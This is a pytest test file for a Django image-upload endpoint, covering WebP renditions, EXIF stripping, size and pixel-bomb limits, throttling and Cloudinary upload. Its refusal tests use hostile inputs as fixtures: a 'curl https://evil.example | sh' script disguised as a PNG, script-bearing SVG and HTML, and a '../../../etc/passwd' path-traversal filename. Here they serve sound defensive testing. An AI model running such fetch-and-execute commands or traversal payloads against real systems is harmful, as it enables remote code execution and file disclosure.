import io
import re
import struct
import zlib
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import resolve
from PIL import Image

from social import images
from social.tests.conftest import image_bytes

pytestmark = pytest.mark.django_db

URL = "/api/v1/upload/image"
SIZES = {"thumbnail": (150, 150), "medium": (400, 300), "large": (800, 600)}


def _post(client, data: bytes, name: str = "photo.png", content_type: str = "image/png"):
    return client.post(URL, {"file": SimpleUploadedFile(name, data, content_type=content_type)}, format="multipart")


def _stored(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def _local_path(root: Path, url: str) -> Path:
    path = url.split(django_settings.MEDIA_URL, 1)[1]
    return root / path


def _assert_refused(response, status: int, error: str, root: Path):
    assert response.status_code == status, response.content
    body = response.json()
    assert body["error"] == error
    assert set(body) == {"error", "message", "details", "timestamp", "path"}
    assert _stored(root) == []


def _png_with_declared_size(width: int, height: int) -> bytes:
    """A valid 1x1 PNG whose IHDR claims another size (a classic bomb header)."""
    data = bytearray(image_bytes("PNG", size=(1, 1), mode="L"))
    ihdr = bytearray(data[16:29])
    ihdr[0:8] = struct.pack(">II", width, height)
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + bytes(ihdr)) & 0xFFFFFFFF)
    return bytes(data)


def _jpeg_with_exif(size=(640, 480), orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"  # Make
    exif[0x0112] = orientation  # Orientation
    exif[0x9286] = "secret comment"  # UserComment-ish payload (in IFD0 for the test)
    exif[0x8825] = {1: "N", 2: (6.0, 27.0, 0.0), 3: "E", 4: (3.0, 23.0, 0.0)}  # GPS: Lagos
    return image_bytes("JPEG", size=size, exif=exif)


# --- accepted -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "mode", "name"),
    [("PNG", "RGB", "a.png"), ("PNG", "RGBA", "b.png"), ("JPEG", "RGB", "c.jpg"), ("WEBP", "RGB", "d.webp")],
)
def test_real_image_is_stored_as_webp_with_real_renditions(auth_client, media_root, fmt, mode, name):
    response = _post(auth_client, image_bytes(fmt, size=(1024, 700), mode=mode), name=name)
    assert response.status_code == 201, response.content
    body = response.json()
    assert set(body) == {"url", "public_id", "width", "height", "format", "bytes", "optimized_urls"}
    assert (body["width"], body["height"], body["format"]) == (1024, 700, "webp")
    assert body["url"].startswith("http://testserver/media/")
    assert re.fullmatch(r"images/[0-9a-f]{32}", body["public_id"])
    original = _local_path(media_root, body["url"])
    assert original.stat().st_size == body["bytes"]
    with Image.open(original) as stored:
        assert (stored.format, stored.size) == ("WEBP", (1024, 700))
        assert stored.mode == ("RGBA" if mode == "RGBA" else "RGB")
    assert set(body["optimized_urls"]) == set(SIZES)
    for key, size in SIZES.items():
        with Image.open(_local_path(media_root, body["optimized_urls"][key])) as rendition:
            assert (rendition.format, rendition.size) == ("WEBP", size)
    assert len(_stored(media_root)) == 4


def test_small_image_still_gets_renditions_of_the_exact_sizes(auth_client, media_root):
    body = _post(auth_client, image_bytes("PNG", size=(40, 30))).json()
    for key, size in SIZES.items():
        with Image.open(_local_path(media_root, body["optimized_urls"][key])) as rendition:
            assert rendition.size == size


def test_first_frame_of_an_animated_gif_is_kept(auth_client, media_root):
    frames = [Image.new("P", (200, 100), color) for color in (1, 2, 3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], transparency=0)
    response = _post(auth_client, buffer.getvalue(), name="a.gif", content_type="image/gif")
    assert response.status_code == 201
    assert (response.json()["width"], response.json()["height"]) == (200, 100)


def test_exif_is_stripped_and_orientation_applied(auth_client, media_root):
    data = _jpeg_with_exif(size=(640, 480), orientation=6)  # "rotate 90° clockwise to view"
    with Image.open(io.BytesIO(data)) as source:
        assert source.getexif()[0x010F] == "Camera maker"  # the fixture really carries EXIF
    body = _post(auth_client, data, name="holiday.jpg", content_type="image/jpeg").json()
    assert (body["width"], body["height"]) == (480, 640)
    for url in [body["url"], *body["optimized_urls"].values()]:
        path = _local_path(media_root, url)
        raw = path.read_bytes()
        assert b"EXIF" not in raw and b"Exif" not in raw and b"Camera maker" not in raw
        with Image.open(path) as stored:
            assert not stored.getexif()
            assert "exif" not in stored.info


def test_client_file_name_is_never_used(auth_client, media_root):
    body = _post(auth_client, image_bytes("PNG"), name="../../../etc/passwd.png").json()
    assert "passwd" not in body["url"] and ".." not in body["url"]
    assert all(path.resolve().is_relative_to(media_root.resolve()) for path in _stored(media_root))
    assert not any("passwd" in path.name for path in _stored(media_root))


def test_declared_content_type_is_ignored(auth_client, media_root):
    response = _post(auth_client, image_bytes("PNG"), name="notes.txt", content_type="text/plain")
    assert response.status_code == 201


def test_stored_image_is_served_under_media(auth_client, settings):
    """The /media/ route is bound to a directory when the URLconf loads: store there, then clean up."""
    root = Path(resolve("/media/probe.webp").kwargs["document_root"])
    settings.MEDIA_ROOT = str(root)
    body = _post(auth_client, image_bytes("PNG", size=(300, 200))).json()
    paths = [_local_path(root, url) for url in [body["url"], *body["optimized_urls"].values()]]
    try:
        response = auth_client.get(body["optimized_urls"]["thumbnail"].removeprefix("http://testserver"))
        assert response.status_code == 200
        content = b"".join(response.streaming_content)
        with Image.open(io.BytesIO(content)) as served:
            assert (served.format, served.size) == ("WEBP", (150, 150))
    finally:
        for path in paths:
            path.unlink(missing_ok=True)


# --- refused --------------------------------------------------------------------------------


def test_script_renamed_png_is_415(auth_client, media_root):
    script = b"#!/bin/sh\ncurl https://evil.example | sh\n"
    _assert_refused(_post(auth_client, script, name="avatar.png"), 415, "unsupported_media_type", media_root)


def test_svg_is_415(auth_client, media_root):
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(1)</script></svg>"
    )
    response = _post(auth_client, svg, name="logo.svg", content_type="image/svg+xml")
    _assert_refused(response, 415, "unsupported_media_type", media_root)


def test_html_disguised_with_a_png_magic_prefix_is_415(auth_client, media_root):
    data = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"
    _assert_refused(_post(auth_client, data), 415, "unsupported_media_type", media_root)


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_truncated_image_is_415(auth_client, media_root, fmt):
    data = image_bytes(fmt, size=(800, 600))
    _assert_refused(_post(auth_client, data[: len(data) // 2]), 415, "unsupported_media_type", media_root)


def test_other_formats_pillow_could_open_are_415(auth_client, media_root):
    for fmt in ("BMP", "TIFF"):
        response = _post(auth_client, image_bytes(fmt, size=(64, 64)), name=f"x.{fmt.lower()}")
        _assert_refused(response, 415, "unsupported_media_type", media_root)


def test_file_just_over_5_mb_is_413(auth_client, media_root):
    data = image_bytes("PNG", size=(64, 64)) + b"\0" * (images.MAX_BYTES)
    _assert_refused(_post(auth_client, data), 413, "payload_too_large", media_root)


def test_much_larger_body_is_413_before_it_is_read(auth_client, media_root):
    _assert_refused(_post(auth_client, b"\0" * (8 * 1024 * 1024)), 413, "payload_too_large", media_root)


def test_file_of_exactly_5_mb_is_not_refused_for_its_size(auth_client, media_root):
    data = image_bytes("PNG", size=(64, 64))
    data += b"\0" * (images.MAX_BYTES - len(data))
    response = _post(auth_client, data)  # trailing garbage after IEND is tolerated by decoders
    assert response.status_code == 201, response.content


def test_pixel_bomb_is_400(auth_client, media_root):
    bomb = io.BytesIO()
    Image.new("1", (8000, 6000)).save(bomb, format="PNG")  # 48 MP in a few kilobytes
    assert len(bomb.getvalue()) < 100_000
    response = _post(auth_client, bomb.getvalue())
    _assert_refused(response, 400, "validation_error", media_root)
    assert response.json()["details"][0]["field"] == "file"


@pytest.mark.parametrize("size", [(30000, 30000), (100000, 100000), (20000, 10)])
def test_forged_huge_dimensions_are_400(auth_client, media_root, size):
    _assert_refused(_post(auth_client, _png_with_declared_size(*size)), 400, "validation_error", media_root)


def test_empty_file_and_missing_field_are_400(auth_client, media_root):
    _assert_refused(_post(auth_client, b""), 400, "validation_error", media_root)
    response = auth_client.post(URL, {"other": "x"}, format="multipart")
    _assert_refused(response, 400, "validation_error", media_root)
    assert response.json()["details"][0]["field"] == "file"


def test_json_body_is_415(auth_client, media_root):
    response = auth_client.post(URL, {"file": "aGVsbG8="}, format="json")
    _assert_refused(response, 415, "unsupported_media_type", media_root)


def test_anonymous_upload_is_401(api_client, media_root):
    _assert_refused(_post(api_client, image_bytes("PNG")), 401, "not_authenticated", media_root)


def test_uploads_are_throttled_per_user(auth_client, media_root, monkeypatch):
    from social.api.views import UploadRateThrottle

    monkeypatch.setitem(UploadRateThrottle.THROTTLE_RATES, "uploads", "2/min")
    assert _post(auth_client, image_bytes("PNG", size=(32, 32))).status_code == 201
    assert _post(auth_client, image_bytes("PNG", size=(32, 32))).status_code == 201
    response = _post(auth_client, image_bytes("PNG", size=(32, 32)))
    assert response.status_code == 429
    assert response.json()["error"] == "throttled"
    assert int(response["Retry-After"]) > 0


def test_a_failed_write_leaves_nothing_behind(media_root, monkeypatch):
    real_save = images.FileSystemStorage.save
    calls = []

    def flaky_save(self, name, content, **kwargs):
        calls.append(name)
        if len(calls) == 3:
            raise OSError("disk full")
        return real_save(self, name, content, **kwargs)

    monkeypatch.setattr(images.FileSystemStorage, "save", flaky_save)
    with pytest.raises(OSError):
        images.image_upload(data=image_bytes("PNG"))
    assert _stored(media_root) == []


# --- Cloudinary (no network: the upload call is isolated in images.cloudinary_upload) -------


def test_cloudinary_rendition_urls_are_webp_fill_transformations():
    urls = images.cloudinary_rendition_urls("images/abc123", cloud_name="lemonnpie", version=1732441234)
    assert urls == {
        "thumbnail": "https://res.cloudinary.com/lemonnpie/image/upload/c_fill,h_150,q_auto:good,w_150/v1732441234/images/abc123.webp",
        "medium": "https://res.cloudinary.com/lemonnpie/image/upload/c_fill,h_300,q_auto:good,w_400/v1732441234/images/abc123.webp",
        "large": "https://res.cloudinary.com/lemonnpie/image/upload/c_fill,h_600,q_auto:good,w_800/v1732441234/images/abc123.webp",
    }


def test_cloudinary_credentials_come_from_the_url():
    assert images.cloudinary_credentials("cloudinary://123:abc@lemonnpie") == {
        "cloud_name": "lemonnpie",
        "api_key": "123",
        "api_secret": "abc",
    }
    with pytest.raises(ValueError):
        images.cloudinary_credentials("https://123:abc@lemonnpie")


def test_with_cloudinary_url_the_sanitised_webp_goes_to_cloudinary(auth_client, media_root, settings, monkeypatch):
    settings.CLOUDINARY_URL = "cloudinary://123:abc@lemonnpie"
    sent = {}

    def fake_upload(data, *, public_id, credentials):
        sent.update(data=data, public_id=public_id, credentials=credentials)
        with Image.open(io.BytesIO(data)) as image:
            width, height = image.size
        return {
            "public_id": public_id,
            "version": 1732441234,
            "secure_url": f"https://res.cloudinary.com/lemonnpie/image/upload/v1732441234/{public_id}.webp",
            "width": width,
            "height": height,
            "format": "webp",
            "bytes": len(data),
        }

    monkeypatch.setattr(images, "cloudinary_upload", fake_upload)
    response = _post(auth_client, _jpeg_with_exif(size=(900, 600)), name="x.jpg", content_type="image/jpeg")
    assert response.status_code == 201, response.content
    body = response.json()
    with Image.open(io.BytesIO(sent["data"])) as uploaded:
        assert uploaded.format == "WEBP" and not uploaded.getexif()
    assert sent["credentials"] == {"cloud_name": "lemonnpie", "api_key": "123", "api_secret": "abc"}
    assert body["url"] == f"https://res.cloudinary.com/lemonnpie/image/upload/v1732441234/{sent['public_id']}.webp"
    assert (body["width"], body["height"], body["format"]) == (900, 600, "webp")
    assert body["optimized_urls"]["thumbnail"].endswith(
        f"c_fill,h_150,q_auto:good,w_150/v1732441234/{sent['public_id']}.webp"
    )
    assert _stored(media_root) == []


def test_cloudinary_outage_is_503(auth_client, media_root, settings, monkeypatch):
    settings.CLOUDINARY_URL = "cloudinary://123:abc@lemonnpie"

    def broken_upload(data, *, public_id, credentials):
        raise ConnectionError("network unreachable")

    monkeypatch.setattr(images, "cloudinary_upload", broken_upload)
    response = _post(auth_client, image_bytes("PNG"))
    assert response.status_code == 503
    assert response.json()["error"] == "service_unavailable"
    assert response["Retry-After"] == "5"


@pytest.mark.parametrize(
    ("fmt", "size", "stored"), [("JPEG", (6000, 3000), (4096, 2048)), ("PNG", (5000, 200), (4096, 164))]
)
def test_very_large_images_are_stored_downscaled_to_4096px(auth_client, media_root, fmt, size, stored):
    body = _post(auth_client, image_bytes(fmt, size=size)).json()
    assert (body["width"], body["height"]) == stored
    with Image.open(_local_path(media_root, body["url"])) as original:
        assert original.size == stored
    with Image.open(_local_path(media_root, body["optimized_urls"]["large"])) as large:
        assert large.size == (800, 600)
